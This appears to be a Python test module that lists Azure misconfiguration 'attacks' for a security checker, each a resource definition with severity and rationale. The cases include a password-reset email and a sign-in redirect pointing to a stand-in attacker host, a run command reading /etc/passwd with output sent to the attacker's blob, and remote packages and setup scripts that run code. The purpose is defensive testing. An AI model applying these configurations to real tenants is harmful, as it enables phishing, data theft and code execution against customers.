"""Attacks on Azure, of all concerns (2026-11-29, thirteenth set, written blind): parts, links, names and bare words.

Properties by pulumi-azure-native 3.29.0; what a service does with them by its documentation, as known. It was not found
out whether confidential ledgers, FHIR services and Weights & Biases are offered in UAE North.
"""

from ..blind import HERE, OURS, RG, SUB, THEIR_TENANT, THEIRS, az
from ..harness import UNKNOWN
from ..idioms.fourth_kubernetes import AZURE_BUDGET
from . import Attack
from .cost_services import AZURE, STACK
from .tenth_azure import ESC, IDN, RES, TAKEN

STRANGER_HOST = "collector.example"
STRANGER_BLOBS = "https://collector.blob.core.windows.net"
PRINCIPAL = "22222222-2222-3333-4444-555555555555"
BILLING = "00000000-0000-0000-0000-000000000003"
RESET = f"""<p>Dear $DevFirstName, set your new password:</p>
<p><a href="https://portal.{STRANGER_HOST}/reset?$ConfirmQuery">Set password</a></p>"""
DISPATCH = f"{OURS}.RecoveryServices/vaults/site/replicationFabrics"

ATTACKS = (
    Attack("the mail by which passwords are reset leads to a stranger", RES, (az("apimanagement:EmailTemplate", {
        **RG, "serviceName": "apim-bank", "templateName": "passwordResetIdentityDefault",
        "subject": "Your new password", "body": RESET}),),
        "critical", "the code of the link is his, and with it the account (API Management, 'Email templates')"),
    Attack("runbooks of the account run on a machine of a stranger", RES, (az("automation:HybridRunbookWorker", {
        **RG, "automationAccountName": "ops", "hybridRunbookWorkerGroupName": "site",
        "hybridRunbookWorkerId": PRINCIPAL, "vmResourceId": f"{THEIRS}.Compute/virtualMachines/collector"}),),
        "critical", "scripts, their passwords and tokens are read there (Azure Automation, 'Hybrid Runbook Worker')"),
    Attack("a rule at the edge sends customers to a stranger's page", RES, (az("cdn:Rule", {
        **RG, "profileName": "edge", "ruleSetName": "portal", "ruleName": "signin", "order": 1,
        "matchProcessingBehavior": "Stop",
        "conditions": [{"name": "UrlPath", "parameters": {
            "typeName": "DeliveryRuleUrlPathMatchConditionParameters", "operator": "BeginsWith",
            "matchValues": ["login"]}}],
        "actions": [{"name": "UrlRedirect", "parameters": {
            "typeName": "DeliveryRuleUrlRedirectActionParameters", "redirectType": "Found",
            "destinationProtocol": "Https", "customHostname": f"login.{STRANGER_HOST}"}}]}),),
        "critical", "customers sign in there (Azure Front Door, 'URL redirect')"),
    Attack("costs of production are shifted to another centre by a rule", ("FJ-TAG-", "FJ-COST-", "FJ-ESC-"), (
        az("costmanagement:CostAllocationRule", {
            "billingAccountId": BILLING, "ruleName": "shift", "properties": {"status": "Active", "details": {
                "sourceResources": [{"name": "cost-centre", "resourceType": "Tag", "values": ["cc-4711"]}],
                "targetResources": [{"name": "cost-centre", "resourceType": "Tag", "policyType": "FixedProportion",
                                     "values": [{"name": "cc-0815", "percentage": 100}]}]}}}),),
        "minor", "who spends is not who is charged (Cost Management, 'Allocate costs')"),
    Attack("devices that carry data are shipped to an address in Ireland", ("FJ-RES-", "FJ-ESC-115"), (
        az("edgeorder:Address", {
        **HERE, "addressName": "site", "addressClassification": "Shipping",
        "shippingAddress": {"streetAddress1": "1 Main Street", "city": "Dublin", "postalCode": "D01",
                            "country": "IE", "addressType": "Commercial", "companyName": "Collector"},
        "contactDetails": {"contactName": "Sam Hill", "phone": "+353155501234", "emailList": ["ops@example.ae"]}}),),
        "major", "the device with its data stands abroad (Azure Edge Hardware Center, 'Addresses')"),
    Attack("the managed instance trusts that of a stranger", RES, (az("sql:ServerTrustGroup", {
        **RG, "locationName": "uaenorth", "serverTrustGroupName": "group",
        "trustScopes": ["GlobalTransactions", "ServiceBroker"], "groupMembers": [
            {"serverId": f"{OURS}.Sql/managedInstances/core"},
            {"serverId": f"{THEIRS}.Sql/managedInstances/collector"}]}),),
        "critical", "messages and transactions of the core go there (Azure SQL, 'Server trust group')"),
    Attack("numbers of cards are labelled as public", ("FJ-ESC-", "FJ-EXP-", "FJ-ENC-"), (az("sql:SensitivityLabel", {
        **RG, "serverName": "sql-bank", "databaseName": "core", "schemaName": "dbo", "tableName": "cards",
        "columnName": "pan", "sensitivityLabelSource": "current", "informationType": "Credit Card",
        "labelName": "Public", "rank": "None"}),),
        "minor", "no audit and no alert tells who reads them (Azure SQL, 'Data Discovery & Classification')"),
    Attack("machines of developers join the domain of a stranger", RES, (az("devcenter:NetworkConnection", {
        **HERE, "networkConnectionName": "dev", "domainJoinType": "HybridAzureADJoin",
        "domainName": f"corp.{STRANGER_HOST}", "domainUsername": f"join@corp.{STRANGER_HOST}",
        "domainPassword": UNKNOWN, "networkingResourceGroupName": "rg-dev-nics",
        "subnetId": f"{OURS}.Network/virtualNetworks/hub/subnets/dev"}),),
        "critical", "his policies run programs on each of them (Microsoft Dev Box, 'Network connections')"),
    Attack("records of patients are read with tokens of a stranger's issuer", IDN, (az("healthcareapis:FhirService", {
        **HERE, "workspaceName": "health", "fhirServiceName": "records", "kind": "fhir-R4",
        "identity": {"type": "SystemAssigned"},
        "encryption": {"customerManagedKeyEncryption": {
            "keyEncryptionKeyUrl": "https://kv-bank.vault.azure.net/keys/fhir/0123456789abcdef0123456789abcdef"}},
        "authenticationConfiguration": {
            "authority": "https://login.microsoftonline.com/00000000-1111-2222-3333-444444444444",
            "audience": "https://records.fhir.azurehealthcareapis.com", "smartIdentityProviders": [{
                "authority": f"https://login.{STRANGER_HOST}/tenant", "applications": [{
                    "clientId": PRINCIPAL, "audience": "records", "allowedDataActions": ["Read"]}]}]}}),),
        "critical", "whom he signs in reads each record (Azure Health Data Services, 'SMART identity providers')"),
    Attack("whoever is in a stranger's perimeter reaches everything in ours", ("FJ-RES-", "FJ-EXP-", "FJ-IDN-"), (
        az("network:NetworkSecurityPerimeterLink", {
            **RG, "networkSecurityPerimeterName": "data", "linkName": "partner",
            "autoApprovedRemotePerimeterResourceId": f"{THEIRS}.Network/networkSecurityPerimeters/collector",
            "localInboundProfiles": ["*"], "remoteInboundProfiles": ["*"]}),),
        "critical", f"{TAKEN} of each vault and account inside (Network Security Perimeter, 'Links')"),
    Attack("whoever has to mend a hole has until the year 2099", ("FJ-ESC-", "FJ-RSL-"), (
        az("security:GovernanceAssignment", {
            "scope": SUB, "assessmentName": "11111111-2222-3333-4444-555555555555", "assignmentKey": PRINCIPAL,
            "owner": "ops@example.ae", "isGracePeriod": True, "remediationDueDate": "2099-12-31T00:00:00Z"}),),
        "minor", "in its grace period the hole lowers no score (Defender for Cloud, 'Governance rules')"),
    Attack("agents of replicated machines are updated by an account of a stranger", RES, (
        az("recoveryservices:ReplicationProtectionContainerMapping", {
            **RG, "resourceName": "site", "fabricName": "uaenorth", "protectionContainerName": "north",
            "mappingName": "central", "properties": {
                "policyId": f"{OURS}.RecoveryServices/vaults/site/replicationPolicies/day",
                "targetProtectionContainerId": f"{DISPATCH}/uaecentral/replicationProtectionContainers/central",
                "providerSpecificInput": {
                    "instanceType": "A2A", "agentAutoUpdateStatus": "Enabled",
                    "automationAccountAuthenticationType": "SystemAssignedIdentity",
                    "automationAccountArmId": f"{THEIRS}.Automation/automationAccounts/collector"}}}),),
        "critical", "his runbooks install programs on each machine (Site Recovery, 'Automatic update')"),
    Attack("incidents are opened for alerts of a name that no alert has", ("FJ-ESC-", "FJ-RSL-"), (
        az("securityinsights:MicrosoftSecurityIncidentCreationAlertRule", {
            **RG, "workspaceName": "log-guard", "ruleId": PRINCIPAL, "enabled": True, "displayName": "Defender",
            "kind": "MicrosoftSecurityIncidentCreation", "productFilter": "Azure Security Center",
            "displayNamesFilter": ["zzz-none"], "severitiesFilter": ["High", "Medium"]}),),
        "major", "nobody is called for an attack (Microsoft Sentinel, 'Create incidents from alerts', name filter)"),
    Attack("an application of a cluster is a package in a stranger's account", ESC, (
        az("servicefabric:ManagedClusterApplicationTypeVersion", {
            **HERE, "clusterName": "fabric", "applicationTypeName": "Ledger", "version": "1.0.0",
            "appPackageUrl": f"{STRANGER_BLOBS}/packages/Ledger.sfpkg"}),),
        "critical", "its code runs on every node (Service Fabric managed clusters, appPackageUrl)"),
    Attack("the private cloud is linked with that of a stranger", RES, (az("avs:CloudLink", {
        **RG, "privateCloudName": "avs", "cloudLinkName": "link",
        "linkedCloud": f"{THEIRS}.AVS/privateClouds/collector"}),),
        "critical", "his machines reach each machine of ours (Azure VMware Solution, 'Interconnect private clouds')"),
    Attack("a ledger is administered from a stranger's tenant", IDN, (az("confidentialledger:Ledger", {
        **HERE, "ledgerName": "proofs", "properties": {"ledgerType": "Private", "aadBasedSecurityPrincipals": [
            {"principalId": PRINCIPAL, "tenantId": THEIR_TENANT, "ledgerRoleName": "Administrator"}]}}),),
        "critical", "he reads each entry and admits others (Azure confidential ledger, 'Manage users')"),
    Attack("alerts of dashboards are mailed through a server of a stranger", RES, (az("dashboard:Grafana", {
        **HERE, "workspaceName": "graf-bank", "sku": {"name": "Standard"}, "identity": {"type": "SystemAssigned"},
        "properties": {
            "apiKey": "Disabled", "publicNetworkAccess": "Disabled", "zoneRedundancy": "Enabled",
            "deterministicOutboundIP": "Disabled", "grafanaConfigurations": {"smtp": {
                "enabled": True, "host": f"mail.{STRANGER_HOST}:587", "fromAddress": "grafana@example.ae",
                "user": "grafana", "password": UNKNOWN, "startTLSPolicy": "MandatoryStartTLS",
                "skipVerify": False}}}}),),
        "major", "figures, names and links of invitations are his (Azure Managed Grafana, 'SMTP settings')"),
    Attack("licences of two thousand processors are paid by the hour", ("FJ-COST-",), (STACK, AZURE, AZURE_BUDGET,
        az("azurearcdata:SqlServerLicense", {
            **HERE, "sqlServerLicenseName": "all", "properties": {
                "activationState": "Activated", "billingPlan": "PAYG", "licenseCategory": "Core",
                "physicalCores": 2000, "scopeType": "Subscription"}})),
        "major", "hundreds of thousands of dirhams a month (SQL Server enabled by Azure Arc, 'Physical cores')"),
    Attack("a capacity of reports grows by a thousand processors by itself", ("FJ-COST-",), (STACK, AZURE, AZURE_BUDGET,
        az("powerbidedicated:AutoScaleVCore", {
            **HERE, "vcoreName": "reports", "capacityLimit": 1000, "capacityObjectId": PRINCIPAL,
            "sku": {"name": "AutoScale", "tier": "AutoScale", "capacity": 0}})),
        "major", "each is charged for a whole day (Power BI Premium, 'Autoscale')"),
    Attack("what a command prints on a server goes to a stranger's account", RES, (
        az("hybridcompute:MachineRunCommand", {
        **HERE, "machineName": "core-1", "runCommandName": "inventory", "timeoutInSeconds": 600,
        "source": {"script": "cat /etc/passwd"}, "outputBlobUri": f"{STRANGER_BLOBS}/out/core-1.txt"}),),
        "critical", "whatever the server can read is his (Azure Arc, 'Run command', outputBlobUri)"),
    Attack("updates of machines leave out those of security", ("FJ-RSL-", "FJ-ESC-"), (
        az("maintenance:MaintenanceConfiguration", {
            **HERE, "resourceName": "nightly", "maintenanceScope": "InGuestPatch", "visibility": "Custom",
            "startDateTime": "2026-12-01 22:00", "duration": "03:00", "recurEvery": "1Day",
            "timeZone": "Arabian Standard Time", "extensionProperties": {"InGuestPatchMode": "User"},
            "installPatches": {
                "rebootSetting": "IfRequired", "linuxParameters": {"classificationsToInclude": ["Other"]},
                "windowsParameters": {"classificationsToInclude": ["FeaturePack", "Tools"]}}}),),
        "major", "known holes stay open on every machine (Azure Update Manager, 'Patch classifications')"),
    Attack("experiments are kept by a vendor of the marketplace in America", ("FJ-RES-", "FJ-ESC-"), (
        az("weightsandbiases:Instance", {
            **HERE, "instancename": "experiments", "identity": {"type": "SystemAssigned"}, "properties": {
                "marketplace": {"subscriptionId": SUB.rpartition("/")[2], "offerDetails": {
                    "offerId": "wandb", "planId": "team", "publisherId": "weightsandbiasesinc",
                    "termId": "monthly", "termUnit": "P1M"}},
                "user": {"firstName": "Mona", "lastName": "Ali", "emailAddress": "mona@example.ae",
                         "upn": "mona@example.ae"},
                "partnerProperties": {"region": "eastus", "subdomain": "bank"}}}),),
        "critical", "samples, models and prompts lie there (Azure Native Integrations, 'Weights & Biases')"),
    Attack("a building block of apps reaches its store in plain text", ("FJ-ENC-", "FJ-ESC-115"), (
        az("app:DaprComponent", {
            **RG, "environmentName": "apps", "componentName": "sessions", "componentType": "state.redis",
            "version": "v1", "scopes": ["portal"], "secrets": [{
                "name": "password", "keyVaultUrl": "https://kv-bank.vault.azure.net/secrets/redis",
                "identity": "System"}],
            "metadata": [{"name": "redisHost", "value": "10.0.4.4:6379"}, {"name": "enableTLS", "value": "false"},
                         {"name": "redisPassword", "secretRef": "password"}]}),),
        "major", "the password and each session are readable (Dapr, 'Redis state store', enableTLS)"),
    Attack("an application of a stranger's tenant administers a cluster of PostgreSQL", IDN, (
        az("dbforpostgresql:ServerGroupRole", {
            **RG, "clusterName": "ledger", "roleName": "reports", "roleType": "admin", "objectId": PRINCIPAL,
            "principalType": "servicePrincipal", "tenantId": THEIR_TENANT}),),
        "critical", "it reads and changes each row (Azure Cosmos DB for PostgreSQL, 'Microsoft Entra ID and roles')"),
    Attack("packages of reports are prepared by a script of a stranger", ESC, (az("synapse:IntegrationRuntime", {
        **RG, "workspaceName": "syn-bank", "integrationRuntimeName": "ssis", "properties": {
            "type": "Managed", "computeProperties": {"location": "uaenorth", "nodeSize": "Standard_D2_v3",
                                                     "numberOfNodes": 1},
            "ssisProperties": {"edition": "Standard", "customSetupScriptProperties": {
                "blobContainerUri": f"{STRANGER_BLOBS}/setup",
                "sasToken": {"type": "SecureString", "value": UNKNOWN}}}}}),),
        "critical", "it runs as administrator of each node (Azure Synapse, 'Customize the setup of an SSIS runtime')"),
)  # fmt: skip
